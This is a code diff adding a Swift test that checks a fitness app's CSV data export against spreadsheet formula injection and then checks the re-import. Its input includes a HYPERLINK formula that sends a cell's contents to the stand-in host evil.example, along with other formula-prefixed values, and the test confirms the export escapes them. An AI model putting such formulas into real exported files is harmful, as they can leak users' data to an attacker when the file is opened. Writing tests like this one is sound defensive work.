@@ -119,6 +119,30 @@ struct DataExportTests {
     }
   }
 
+  @Test func `what a spreadsheet would take for a formula is none in the table, and is imported as it was`()
+    async throws
+  {
+    try await TestServer.run { server in
+      let anna = try await server.person("anna", as: "lifter")
+      try await anna.post(
+        "/v1/lifters/me/workouts",
+        [
+          "name": "=HYPERLINK(\"http://evil.example/?\"&A1)", "performed_at": "2026-01-05T18:00:00Z",
+          "notes": "-2+3", "exercises": [["name": "@SUM(1+1)", "sets": [["reps": 5, "notes": "'+1"]]]],
+        ]
+      ).expect(201)
+      try await anna.send("POST", "/v1/data-exports").expect(201)
+      #expect(try await server.run(job: "export_data").changed == 1)
+      let table = try await anna.archive()["workouts.csv"]
+      let row = try #require(table.split(separator: "\r\n").last)
+      #expect(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",'@SUM(1+1),"))
+      #expect(row.contains(",''+1,'-2+3,"))
+      let berta = try await server.person("berta", as: "lifter")
+      try await berta.send("POST", "/v1/lifters/me/imports", type: "text/csv", Array(table.utf8)).expect(201)
+      #expect(try await anna.log(of: server) == berta.log(of: server))
+    }
+  }
+
   @Test func `a coach's archive has the coach's words and nothing of the client's`() async throws {
     try await TestServer.run { server in
       let pair = try await Pair(on: server, sharing: ["history", "workout_details", "all_lifts"])
